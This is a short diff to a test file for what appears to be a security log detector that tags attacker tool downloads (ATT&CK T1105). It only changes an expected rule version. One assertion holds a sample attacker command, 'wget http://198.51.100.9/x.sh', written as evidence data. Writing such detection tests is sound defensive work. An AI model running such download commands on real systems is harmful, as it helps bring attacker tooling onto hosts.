@@ -62,7 +62,7 @@ for (const kind of DATABASE_KINDS) {
       assert.equal(wget.id, tagId(1, 'command-and-control.ingress-tool-transfer', 'T1105'))
       assert.match(wget.id, /^000000000001[\da-f]{20}$/, 'the log id first, then the hash')
       assert.equal(wget.attacker_ip, '203.0.113.7')
-      assert.equal(wget.rule_version, 1)
+      assert.equal(wget.rule_version, 2)
       assert.equal(wget.confidence, 0.8)
       assert.equal(wget.evidence, 'wget http://198.51.100.9/x.sh')
       assert.equal(wget.timestamp, minutes(0))
